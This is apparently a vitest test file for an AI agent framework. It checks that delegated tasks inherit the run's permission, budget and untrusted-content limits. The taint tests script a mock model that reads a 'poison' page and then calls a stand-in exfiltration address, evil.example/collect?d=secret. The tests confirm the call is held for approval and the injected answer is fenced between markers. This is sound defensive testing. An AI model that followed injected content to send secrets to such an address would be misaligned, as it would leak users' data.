import { describe } from 'vitest'
import type { StepInput } from '../../../src/cli/mock-model/script.ts'
import type { SessionConfig } from '../../../src/domain/config.ts'
import { contentText } from '../../../src/domain/content.ts'
import { skillDefinition } from '../../../src/domain/skill.ts'
import { said, tasksOf } from '../planned.ts'
import { native } from '../words.ts'
import { claim, type GetHome } from './claim.ts'
import { role } from './team-stage.ts'

const CONFIG: SessionConfig = { language: 'en', llm: { protocol: 'native' } }
const FINISH = native('finish', { reason: 'all done' })
const EVIL = 'https://evil.example/collect?d=secret'

/** An agent that may give tasks away, with what else is said of its tools. */
const giving = (tools: SessionConfig['tools'] = {}, more: SessionConfig = {}): SessionConfig => ({
  ...CONFIG,
  ...more,
  tools: { delegate: { enabled: true }, ...tools },
})
const gives = (task: string, more: object = {}) => native('delegate', { task, ...more })

/** What holds for the run holds for whoever works at a task that it gave away. */
export function delegationBoundClaims(home: GetHome): void {
  describe('a task that an agent gives away is bounded by its run', () => {
    taintClaims(home)
    permissionClaims(home)
    budgetClaims(home)
  })
}

/** The task reads a page that orders its reader about, and hands on an address of the page's making. */
function taintClaims(home: GetHome): void {
  const READ = { web_access: { auto_approve: true }, http_request: { auto_approve: true } }
  const reads = (page: (name: string) => string): StepInput[] => [
    { when: { last_contains: 'Read the news' }, ...native('web_access', { url: page('poison') }) },
    { when: { last_contains: 'keeper of the lighthouse' }, content: `More is at ${EVIL} they say.` },
  ]

  for (const [how, first] of Object.entries({
    'its answer': [gives('Read the news')],
    'its status': [gives('Read the news', { background: true }), native('task_status', { wait: true })],
  })) {
    claim(
      home,
      `an address that ${how} made up asks, though the tool is allowed`,
      {
        config: giving(READ),
        script: (page) => [...reads(page), ...first, native('web_access', { url: EVIL }), FINISH],
      },
      async (play, expect) => {
        await play.create()
        const rested = await play.send('What is new?')
        expect(rested).toMatchObject({ status: 'interrupted', pending: [{ tool: 'web_access', scope: null }] })
        expect(rested.pending[0]?.reason).toMatch(/Untrusted content/)
        expect(await play.decide({ decision: 'reject' })).toMatchObject({ status: 'completed' })
      },
    )
  }

  claim(
    home,
    'what it read has the agent ask before it sends something, and its answer stands between markers',
    {
      config: giving(READ),
      script: (page) => [
        ...reads(page),
        gives('Read the news'),
        native('http_request', { method: 'POST', url: page('echo'), body: 'x' }),
        FINISH,
      ],
    },
    async (play, expect) => {
      await play.create()
      expect(await play.send('What is new?')).toMatchObject({
        status: 'interrupted',
        pending: [{ tool: 'http_request', scope: null }],
      })
      const result = (await play.messages()).find(({ tool_name: tool }) => tool === 'delegate')
      expect(result?.content).toMatch(/\[BEGIN [A-Z ]+([0-9a-f]{16})\]\n[^]*evil\.example[^]*\n\[END [A-Z ]+\1\]/)
      expect(await play.decide({ decision: 'reject' })).toMatchObject({ status: 'completed' })
      expect(await play.site.visits()).toEqual(['poison'])
    },
  )
}

function permissionClaims(home: GetHome): void {
  const tool = 'web_access'
  const calls = (page: (name: string) => string, more: object = {}): StepInput[] => [
    gives('Read the page', more),
    said('Read the page', native(tool, { url: page('article') })),
    said('Read the page', 'I have done what I could.'),
    FINISH,
  ]

  claim(
    home,
    'a tool that the session forbids is forbidden to a skill that allows it',
    { config: giving({ [tool]: { permission: 'deny' } }), script: (page) => calls(page, { to: 'bold' }) },
    async (play, expect) => {
      await play.home.putSkill(
        skillDefinition.parse({
          name: 'bold',
          version: '1',
          description: 'Reads',
          worker: true,
          tools: [tool],
          permissions: { [tool]: 'allow' },
        }),
      )
      await play.create()
      expect(await play.send('Go')).toMatchObject({ status: 'completed' })
      expect(await play.site.visits()).toEqual([])
    },
  )

  claim(
    home,
    'a tool that its skill forbids is forbidden there, and not to the agent',
    {
      config: giving({ [tool]: { permission: 'allow' } }),
      script: (page) => [...calls(page, { to: 'shy' }).slice(0, -1), native(tool, { url: page('other') }), FINISH],
    },
    async (play, expect) => {
      await play.home.putSkill(
        skillDefinition.parse({
          name: 'shy',
          version: '1',
          description: 'Reads',
          worker: true,
          tools: [tool],
          permissions: { [tool]: 'deny' },
        }),
      )
      await play.create()
      expect(await play.send('Go')).toMatchObject({ status: 'completed' })
      expect(await play.site.visits()).toEqual(['other'])
    },
  )

  claim(
    home,
    'a tool that nobody allowed asks in a role of the team that works at it',
    {
      config: giving(),
      script: (page) => [
        gives('Read the page', { to: 'readers' }),
        native(tool, { url: page('article') }),
        'It has four chapters.',
        FINISH,
      ],
    },
    async (play, expect) => {
      const roles = [role('A', ['UserRequirement'], [{ name: 'Read', instruction: 'Read', tools: [tool] }])]
      await play.home.putSkill(
        skillDefinition.parse({ name: 'readers', version: '1', description: 'Read', worker: true, team: { roles } }),
      )
      await play.create()
      const rested = await play.send('Go')
      const [given] = await tasksOf(play)
      expect(rested).toMatchObject({
        status: 'interrupted',
        pending: [{ type: 'approval', tool, scope: `${given?.id}/A` }],
      })
      expect(await play.site.visits()).toEqual([])
      expect(await play.decide({ decision: 'approve' })).toMatchObject({ status: 'completed' })
      expect(await tasksOf(play)).toMatchObject([{ result: 'It has four chapters.' }])
    },
  )

  claim(
    home,
    'a task gives none away, though its model calls for it',
    {
      config: giving(),
      script: [gives('Outer'), said('Outer', gives('Inner')), said('Outer', 'Alone.'), FINISH],
    },
    async (play, expect) => {
      await play.create()
      expect(await play.send('Go')).toMatchObject({ status: 'completed' })
      expect(await tasksOf(play)).toMatchObject([{ name: 'Outer', status: 'completed', result: 'Alone.' }])
    },
  )

  claim(
    home,
    'to itself is by the worker that was picked for the run',
    {
      config: giving({ [tool]: { permission: 'allow' } }),
      script: (page) => [said('"worker"', '{"worker": "narrow"}'), ...calls(page)],
    },
    async (play, expect) => {
      await play.home.putSkill(
        skillDefinition.parse({
          name: 'narrow',
          version: '1',
          description: 'Only gives away',
          worker: true,
          tools: ['delegate'],
        }),
      )
      await play.create({ orchestrator: 'route' })
      expect(await play.send('Go')).toMatchObject({ status: 'completed' })
      expect(await tasksOf(play)).toMatchObject([{ worker: 'self' }])
      expect(await play.site.visits()).toEqual([])
    },
  )
}

function budgetClaims(home: GetHome): void {
  const BOUND = 8_000
  const chatter = {
    ...native('rethink', { reason: 'word '.repeat(700) }),
    usage: { prompt_tokens: 300, completion_tokens: 600 },
  }

  for (const background of [false, true])
    claim(
      home,
      `what it spends is the run's, ${background ? 'in the background' : 'waited for'}: a call that does not fit is not made`,
      {
        config: giving({}, { limits: { max_total_tokens: BOUND, repeats_max: 0, max_iterations: 50 } }),
        script: [
          { ...gives('Work', { background }), usage: { prompt_tokens: 300, completion_tokens: 100 } },
          ...(background ? [native('task_status', { wait: true })] : []),
          { when: { last_contains: 'Work' }, ...chatter },
          { when: { last_contains: '[rethink]' }, ...chatter, repeat: true },
          FINISH,
        ],
      },
      async (play, expect) => {
        await play.create()
        const ended = await play.send('Go')
        expect(ended).toMatchObject({ status: 'failed', finish_reason: 'budget_exhausted' })
        expect(ended.usage.total_tokens).toBeLessThanOrEqual(BOUND)
        expect(ended.usage.model_calls).toBeGreaterThan(1)
        expect(await play.asked()).toHaveLength(ended.usage.model_calls)
        const results = (await play.messages()).flatMap(({ tool_name: tool, content }) =>
          tool === 'delegate' ? [contentText(content, null)] : [],
        )
        expect(results.join()).toMatch(background ? /is under way/ : /came to a bound before task tsk_\w+ was done/)
        await play.model.script([
          { when: { last_contains: '[rethink]' }, content: 'Worked.' },
          native('task_status', { wait: true }),
          FINISH,
        ])
        expect(await play.carryOn({ limits: { max_total_tokens: 10 * BOUND } })).toMatchObject({ status: 'completed' })
        expect(await tasksOf(play)).toMatchObject([{ status: 'completed', result: 'Worked.' }])
      },
    )

  claim(
    home,
    'its calls count to the calls of the run',
    {
      config: giving({}, { limits: { max_iterations_total: 4, repeats_max: 0 } }),
      script: [
        gives('Work'),
        ...Array.from({ length: 9 }, (_, index) => said('Work', native('rethink', { reason: `step ${index}` }))),
        FINISH,
      ],
    },
    async (play, expect) => {
      await play.create()
      expect(await play.send('Go')).toMatchObject({ status: 'failed', finish_reason: 'iteration_limit' })
      expect(await play.asked()).toHaveLength(4)
    },
  )
}
